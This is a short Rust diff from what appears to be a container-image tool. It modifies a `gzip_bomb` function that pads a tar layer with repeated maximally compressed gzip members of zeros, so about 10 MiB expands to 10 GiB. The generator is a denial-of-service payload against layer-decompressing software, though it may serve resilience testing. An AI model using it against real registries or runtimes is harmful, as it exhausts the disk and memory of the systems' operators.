@@ -346,7 +346,9 @@ pub fn upload(host: &str, repo: &str, tag: &str, layers: &[Layer], diff_ids: &[D
 /// zeros: one gzip member of 1 MiB of zeros (about 1 KiB), repeated. 10 GiB
 /// of zeros take about 10 MiB.
 pub fn gzip_bomb(tar: &[u8], zeros_mib: usize) -> Vec<u8> {
-    let member = gzip(&vec![0u8; 1 << 20]);
+    let mut best = GzEncoder::new(Vec::new(), flate2::Compression::best());
+    best.write_all(&vec![0u8; 1 << 20]).unwrap();
+    let member = best.finish().unwrap();
     let mut out = gzip(tar);
     out.reserve(member.len() * zeros_mib);
     for _ in 0..zeros_mib {
